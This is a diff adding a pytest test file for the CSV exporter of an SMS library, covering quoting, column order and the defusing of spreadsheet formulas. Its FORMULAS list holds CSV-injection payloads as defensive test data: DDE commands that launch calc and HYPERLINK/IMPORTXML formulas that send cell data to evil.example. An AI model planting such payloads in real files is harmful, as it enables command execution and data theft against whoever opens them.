@@ -1,0 +1,142 @@
+"""CSV: rows that any reader reads, and cells that no spreadsheet runs."""
+
+import csv
+import io
+import json
+from typing import Any
+
+import attrs
+import pytest
+
+from smstools_async import Message, MessageFile
+from smstools_async.export import csv_writer
+
+HELLO = Message(
+    direction="inbound",
+    sender="+5511987654321",
+    receiver="Clinica",
+    text="Olá, João",
+    unix_time=1749113086,
+    datetime_text="05 jun 2025, 08:44:46",
+    delivery_status="DELIVERED",
+)
+
+
+def _written(*messages: Message, bom: bool = False) -> str:
+    stream = io.StringIO()
+    with csv_writer(stream, bom=bom) as writer:
+        for message in messages:
+            writer.write(message)
+    return stream.getvalue()
+
+
+def _row(message: Message) -> dict[str, str]:
+    (row,) = csv.DictReader(io.StringIO(_written(message), newline=""))
+    return row
+
+
+def test_row_has_the_names_of_a_message_led_by_its_time() -> None:
+    """Columns are those of `to_dict()` with an ISO 8601 time before them; what is null is empty."""
+    assert {
+        "sent_at": "2025-06-05T08:44:46+00:00",
+        "message_id": "",
+        "direction": "inbound",
+        "sender": "+5511987654321",
+        "receiver": "Clinica",
+        "text": "Olá, João",
+        "files": "",
+        "unix_time": "1749113086",
+        "datetime_text": "05 jun 2025, 08:44:46",
+        "delivery_status": "DELIVERED",
+    } == _row(HELLO)
+    assert ["sent_at", *HELLO.to_dict()] == list(_row(HELLO))
+
+
+def test_nothing_written_is_a_line_of_names() -> None:
+    """A conversation without messages is a table without rows."""
+    assert "\r\n" == _written()[-2:]
+    assert 1 == len(_written().splitlines())
+
+
+def test_files_are_json() -> None:
+    """Attachments keep name, address and type in one cell."""
+    files = (
+        MessageFile(name='a "b", c.png', url="https://files.example/1", mime="image/png"),
+        MessageFile(name="boleto.pdf", url="https://files.example/2", mime="application/pdf"),
+    )
+    cell = _row(attrs.evolve(HELLO, files=files))["files"]
+    assert [file.to_dict() for file in files] == json.loads(cell)
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["a,b", 'say "hi"', "two\nlines", "two\r\nlines", "a\rb", "a;b", "  spaces  ", "a\x00b", "'"],
+    ids=ascii,
+)
+def test_special_characters_stay_in_their_cell(text: str) -> None:
+    """RFC 4180: separators, quotes and line breaks are part of a quoted cell."""
+    assert text == _row(attrs.evolve(HELLO, text=text))["text"]
+
+
+FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example?x="&A1,"click")',
+    '=IMPORTXML(CONCAT("https://evil.example?x=",A1),"//a")',
+    "=",
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\r\n=1+1",
+    "\uff1d1+1",  # full-width twins
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
+@pytest.mark.parametrize(
+    "column",
+    ["text", "message_id", "direction", "sender", "receiver", "datetime_text", "delivery_status"],
+)
+def test_formula_is_defused(column: str, text: str) -> None:
+    """A cell a spreadsheet would run begins with an apostrophe, whichever column it is in."""
+    changes: dict[str, Any] = {column: text}
+    assert f"'{text}" == _row(attrs.evolve(HELLO, **changes))[column]
+
+
+@pytest.mark.parametrize("text", ["1+1", "a=b", "ok", "", " =1", "'=1", "R$ 10", "🙏"])
+def test_harmless_text_stays(text: str) -> None:
+    """Only what begins like a formula is changed."""
+    assert text == _row(attrs.evolve(HELLO, text=text))["text"]
+
+
+@pytest.mark.parametrize("phone", ["+5511987654321", "5511987654321"])
+def test_phone_stays_readable(phone: str) -> None:
+    """A plus and digits alone are a number to a spreadsheet: nothing to defuse."""
+    row = _row(attrs.evolve(HELLO, sender=phone, receiver=phone))
+    assert phone == row["sender"] == row["receiver"]
+
+
+@pytest.mark.parametrize(
+    "phone", ["+", "+55 11", "+55+11", "+55\n", "+\u0665\u0665", "-5511"], ids=ascii
+)
+def test_what_only_looks_like_a_phone_is_defused(phone: str) -> None:
+    """Anything more than a plus and ASCII digits might be a formula."""
+    assert f"'{phone}" == _row(attrs.evolve(HELLO, sender=phone))["sender"]
+
+
+def test_plus_and_digits_in_a_text_are_defused() -> None:
+    """The rule for phones is for the columns of phones."""
+    assert "'+5511987654321" == _row(attrs.evolve(HELLO, text="+5511987654321"))["text"]
+
+
+def test_byte_order_mark_is_there_when_asked_for() -> None:
+    """Excel reads UTF-8 with a mark; others are better off without."""
+    assert _written(HELLO, bom=True) == "\ufeff" + _written(HELLO)
